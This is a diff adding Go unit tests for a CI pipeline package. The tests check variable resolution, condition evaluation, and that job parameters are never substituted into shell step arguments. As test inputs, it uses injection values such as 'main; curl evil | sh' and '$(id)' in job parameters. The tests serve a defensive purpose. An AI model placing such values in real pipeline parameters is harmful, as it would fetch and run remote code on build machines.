@@ -0,0 +1,91 @@
+package pipeline
+
+import (
+	"goli/models"
+	"testing"
+)
+
+func TestResolveVariablesStoredOverrideDefinition(t *testing.T) {
+	def := &models.PipelineDefinition{Variables: map[string]interface{}{"IMAGE": "app:dev", "TAG": "latest"}}
+	stored := map[string]interface{}{"IMAGE": "app:prod", "TOKEN": "s3cret"}
+
+	variables := ResolveVariables(def, stored)
+
+	want := map[string]interface{}{"IMAGE": "app:prod", "TAG": "latest", "TOKEN": "s3cret"}
+	if len(variables) != len(want) {
+		t.Fatalf("got %v, want %v", variables, want)
+	}
+	for k, v := range want {
+		if variables[k] != v {
+			t.Errorf("%s = %v, want %v", k, variables[k], v)
+		}
+	}
+}
+
+func TestRunParametersAreNotSubstituted(t *testing.T) {
+	def, err := ParsePipelineDefinition(`name: p
+variables:
+  BRANCH: main
+steps:
+  - name: build
+    type: shell
+    action: run
+    config:
+      command: sh
+      args: ["-c", "git checkout ${BRANCH} && echo ${TOKEN} ${EXTRA}"]
+`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	job := &models.Job{Parameters: map[string]string{
+		"BRANCH": "main; curl evil | sh",
+		"TOKEN":  "replaced",
+		"EXTRA":  "$(id)",
+	}}
+
+	variables := ResolveVariables(def, map[string]interface{}{"TOKEN": "s3cret"})
+	SubstituteVariables(def, variables)
+	def.Variables = variables
+
+	args := def.Steps[0].Config["args"].([]interface{})
+	if got, want := args[1], "git checkout main && echo s3cret ${EXTRA}"; got != want {
+		t.Errorf("args = %q, want %q", got, want)
+	}
+
+	context := conditionContext(job, def, def.Steps[0], nil)
+	if context["BRANCH"] != "main" || context["TOKEN"] != "s3cret" {
+		t.Errorf("parameters override variables in conditions: BRANCH=%v TOKEN=%v", context["BRANCH"], context["TOKEN"])
+	}
+	if _, ok := context["EXTRA"]; ok {
+		t.Error("parameter EXTRA is visible without the parameters. prefix")
+	}
+	if context["parameters.BRANCH"] != "main; curl evil | sh" {
+		t.Errorf("parameters.BRANCH = %v", context["parameters.BRANCH"])
+	}
+}
+
+func TestConditionsReadParameters(t *testing.T) {
+	def := &models.PipelineDefinition{Variables: map[string]interface{}{"BRANCH": "main"}}
+	job := &models.Job{Parameters: map[string]string{"BRANCH": "release"}}
+	context := conditionContext(job, def, models.PipelineStep{}, nil)
+
+	tests := []struct {
+		expr string
+		want bool
+	}{
+		{`parameters.BRANCH == "release"`, true},
+		{`BRANCH == "main"`, true},
+		{`${BRANCH} == "release"`, false},
+		{`parameters.MISSING == ""`, true},
+	}
+	for _, tt := range tests {
+		got, err := EvaluateCondition(tt.expr, context)
+		if err != nil {
+			t.Errorf("%s: %v", tt.expr, err)
+			continue
+		}
+		if got != tt.want {
+			t.Errorf("%s = %v, want %v", tt.expr, got, tt.want)
+		}
+	}
+}